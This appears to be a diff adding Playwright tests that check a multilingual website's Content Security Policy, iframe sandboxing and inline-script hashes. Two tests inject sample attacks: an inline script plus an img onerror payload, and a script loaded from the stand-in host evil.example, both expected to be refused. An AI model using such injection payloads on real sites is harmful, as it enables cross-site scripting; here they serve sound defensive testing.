@@ -1,0 +1,138 @@
+import { expect, type Page, test } from '@playwright/test';
+import { readSiteModel } from '../../src/hosting/adapter';
+
+const model = readSiteModel();
+if (!model) throw new Error('Build the site first.');
+
+/** One page of each kind and language, and what answers for unknown addresses. */
+const addresses = [
+  '/fr',
+  '/en',
+  '/es',
+  '/fr/fonctionnalites',
+  '/en/features/energy-project-management',
+  '/feature/signature',
+  '/es/caracteristicas/no-such-feature',
+  '/fr/no-such-page',
+  '/no-such-page',
+];
+
+/** Collects what the browser refuses, in the page and in its frames, as it is refused. */
+async function watch(page: Page): Promise<string[]> {
+  const found: string[] = [];
+  await page.exposeFunction('reportViolation', (text: string) => found.push(text));
+  await page.addInitScript(() => {
+    document.addEventListener('securitypolicyviolation', ({ violatedDirective, blockedURI, sample, documentURI }) => {
+      const report = (window as unknown as { reportViolation(text: string): void }).reportViolation;
+      report(`${documentURI}: ${violatedDirective} refuses ${blockedURI} ${sample}`);
+    });
+  });
+  page.on('console', (message) => {
+    if (/Content Security Policy|Permissions-Policy|Cross-Origin/i.test(message.text())) found.push(message.text());
+  });
+  return found;
+}
+
+async function scrollThrough(page: Page): Promise<void> {
+  await page.evaluate(async () => {
+    for (let top = 0; top < document.documentElement.scrollHeight; top += 400) {
+      window.scrollTo({ top, behavior: 'instant' });
+      await new Promise((resolve) => setTimeout(resolve, 30));
+    }
+  });
+}
+
+/** Presses everything that can be pressed and does not lead away. */
+async function pressEverything(page: Page): Promise<void> {
+  const buttons = page.locator('button:visible:enabled, [role=tab]:visible');
+  const count = await buttons.count();
+  for (let index = 0; index < count; index++) {
+    await buttons
+      .nth(index)
+      .click({ timeout: 1000, force: true })
+      .catch(() => undefined);
+    await page.keyboard.press('Escape');
+  }
+}
+
+for (const address of addresses) {
+  test(`nothing that ${address} does is refused by its own policy`, async ({ page }) => {
+    test.setTimeout(90_000);
+    const found = await watch(page);
+    await page.goto(address);
+    await page.waitForLoadState('networkidle');
+    await scrollThrough(page);
+    await pressEverything(page);
+    await page.waitForLoadState('networkidle');
+    expect(found).toEqual([]);
+  });
+}
+
+test('a visitor goes through the site by links, in every language, and nothing is refused', async ({ page }) => {
+  test.setTimeout(90_000);
+  const found = await watch(page);
+  await page.goto('/fr');
+  await page.waitForLoadState('networkidle');
+  for (const path of [
+    '/fr/fonctionnalites',
+    '/fr/fonctionnalites/gestion-dossiers-prime-energie',
+    '/en',
+    '/es',
+    '/en/features',
+  ]) {
+    await page.evaluate((to) => (window as unknown as { ___navigate(to: string): void }).___navigate(to), path);
+    await expect(page).toHaveURL(path);
+    await scrollThrough(page);
+  }
+  expect(found).toEqual([]);
+});
+
+test('the demo tour works in its frame, and may be framed by this site alone', async ({ page, request }) => {
+  const found = await watch(page);
+  await page.goto('/fr');
+  await page.locator('#video-section').scrollIntoViewIfNeeded();
+  const tour = page.frameLocator('#video-section iframe');
+  await expect(tour.getByRole('heading', { level: 1 })).toBeVisible({ timeout: 15_000 });
+  await tour.locator('nav a').nth(2).click();
+  expect(await page.locator('#video-section iframe').getAttribute('sandbox')).not.toContain('allow-same-origin');
+  const headers = (await request.get('/tour/fr.html')).headers();
+  expect(headers['content-security-policy']).toContain("frame-ancestors 'self'");
+  expect(found).toEqual([]);
+});
+
+test('a script that somebody gets into a page does not run', async ({ page }) => {
+  await page.route('**/fr', async (route) => {
+    const response = await route.fetch();
+    const body = (await response.text()).replace(
+      '</h1>',
+      '</h1><script>window.stolen = "script"</script><img src="/x" onerror="window.stolen=1">',
+    );
+    await route.fulfill({ response, body });
+  });
+  const found = await watch(page);
+  await page.goto('/fr');
+  await expect.poll(() => found.filter((text) => text.includes('script-src')).length).toBeGreaterThanOrEqual(2);
+  expect(await page.evaluate(() => (window as unknown as { stolen?: string }).stolen)).toBeUndefined();
+});
+
+test('a script from another site is refused before it is asked for', async ({ page }) => {
+  await page.goto('/en');
+  const failed = page.waitForEvent('requestfailed', (request) => request.url().includes('evil.example'));
+  await page.evaluate(() => {
+    const script = document.createElement('script');
+    script.src = 'https://evil.example/x.js';
+    document.head.append(script);
+  });
+  expect((await failed).failure()?.errorText).toBe('csp');
+});
+
+test('every page carries the hashes of its own inline scripts, and none is left to trust', async ({ request }) => {
+  for (const { path } of model.pages) {
+    const html = await (await request.get(path)).text();
+    const policy = /<meta http-equiv="Content-Security-Policy" content="([^"]*)">/.exec(html)?.[1] ?? '';
+    expect(policy, path).toContain("default-src 'none'");
+    expect(policy, path).toMatch(/script-src 'self' 'sha256-/);
+    expect(policy, path).not.toMatch(/unsafe-inline|unsafe-eval/);
+    expect(html.indexOf('http-equiv="Content-Security-Policy"'), path).toBeLessThan(html.indexOf('<script'));
+  }
+});
